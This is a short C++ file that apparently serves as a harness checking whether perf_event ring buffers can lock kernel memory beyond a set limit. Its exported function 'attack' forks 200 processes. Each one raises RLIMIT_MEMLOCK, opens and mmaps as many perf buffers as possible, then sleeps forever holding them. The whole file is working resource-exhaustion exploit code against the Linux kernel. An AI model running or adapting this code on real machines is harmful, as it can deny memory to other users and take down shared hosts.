#include <cstdio>
#include <linux/perf_event.h>
#include <sys/mman.h>
#include <sys/resource.h>
#include <sys/syscall.h>
#include <unistd.h>

static const int PROCESSES = 200;
static const long LIMIT = 256;

static int map_buffers() {
    struct rlimit more = {RLIM_INFINITY, RLIM_INFINITY};
    setrlimit(RLIMIT_MEMLOCK, &more);
    struct perf_event_attr event = {};
    event.type = PERF_TYPE_SOFTWARE;
    event.size = sizeof event;
    event.config = PERF_COUNT_SW_PAGE_FAULTS;
    event.disabled = 1;
    int taken = 0, page = getpagesize();
    for (int pages = 4096; pages > 0;) {
        int counter = syscall(SYS_perf_event_open, &event, 0, -1, -1, 0);
        long size = (pages + 1L) * page;
        if (counter < 0)
            break;
        if (mmap(nullptr, size, PROT_READ | PROT_WRITE, MAP_SHARED, counter, 0) != MAP_FAILED) {
            taken += pages;
            continue;
        }
        close(counter);
        pages /= 2;
    }
    return taken;
}

extern "C" long attack(long n) {
    int ready[2], taken;
    if (pipe(ready))
        return -1;
    for (int i = 0; i < PROCESSES; i++)
        if (fork() == 0) {
            taken = map_buffers();
            if (write(ready[1], &taken, sizeof taken) != sizeof taken)
                _exit(1);
            for (;;)
                pause();
        }
    long pages = 0;
    for (int i = 0; i < PROCESSES; i++) {
        if (read(ready[0], &taken, sizeof taken) != sizeof taken)
            return -2;
        pages += taken;
    }
    long megabytes = pages * getpagesize() >> 20;
    printf("%ld MiB of buffers\n", megabytes);
    return megabytes > LIMIT ? megabytes - LIMIT : 0;
}
